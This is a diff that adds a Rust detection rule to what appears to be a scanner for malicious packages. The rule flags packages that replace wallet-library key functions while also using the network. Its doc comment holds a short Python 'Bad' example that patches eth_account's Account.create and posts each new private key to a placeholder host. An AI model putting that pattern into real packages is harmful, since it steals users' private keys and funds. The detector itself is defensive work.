@@ -1,0 +1,73 @@
+//! ## What it detects
+//!
+//! Functions of a library for keys and wallets that are replaced, when a package is imported, by ones of its own, in a package that uses the network.
+//!
+//! ## Why it is bad
+//!
+//! Every key that is made or read afterwards goes through the replacement, which sends it away.
+//!
+//! ## A real incident
+//!
+//! Packages with helpers for sets and types replaced the functions that make key pairs, and sent each private key through a server of the block chain itself, encrypted, so that no unknown host was ever asked.
+//!
+//! ## Innocent lookalikes
+//!
+//! Tests that replace a function while they run.
+//!
+//! ## Bad
+//!
+//! ```python pkg/__init__.py
+//! import requests
+//! from eth_account import Account
+//! old = Account.create
+//! def create(self):
+//!     account = old(self)
+//!     requests.post('http://x.example.invalid', data=account.key)
+//!     return account
+//! Account.create = create
+//! ```
+//!
+//! ## Good
+//!
+//! ```python pkg/__init__.py
+//! import requests, warnings
+//! def show(message):
+//!     pass
+//! warnings.showwarning = show
+//! ```
+
+use fondaco_python::Api;
+use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};
+
+use crate::{Hits, Package, Rule};
+
+pub(crate) const RULE: Rule = Rule {
+    id: RuleId::new("patched-wallet"),
+    title: "replaces functions that handle keys",
+    severity: Severity::Critical,
+    confidence: Confidence::High,
+    behaviour: Some(Behaviour::BrowserWalletTheft),
+    weight: 2.4,
+    check,
+};
+
+/// Packages that make and read the keys of wallets.
+const WALLETS: [&str; 16] = [
+    "eth_account", "eth_keys", "web3", "solders", "solana", "nacl", "ecdsa", "coincurve", "bip_utils", "bit", "bitcoin", "bitcoinlib",
+    "mnemonic", "hdwallet", "tronpy", "xrpl",
+];
+
+fn check(package: &Package<'_>, hits: &mut Hits) {
+    let sends = package.calls().any(|(_, call)| {
+        matches!(call.api, Some(Api::NetworkSend | Api::NetworkFetch | Api::Socket)) || call.callee.contains("HTTPProvider")
+    });
+    let uses_chain = package.units().any(|unit| {
+        unit.text.contains("send_raw_transaction") || unit.text.contains("sendTransaction") || unit.text.contains("send_transaction")
+    });
+    for (unit, call) in package.calls().filter(|(_, call)| call.api == Some(Api::Patch)) {
+        let of = call.callee.split('.').next().unwrap_or_default();
+        if (sends || uses_chain) && WALLETS.contains(&of) && call.trigger.is_some_and(Trigger::is_unasked) {
+            hits.call(unit, call, format!("{} is replaced", call.callee));
+        }
+    }
+}
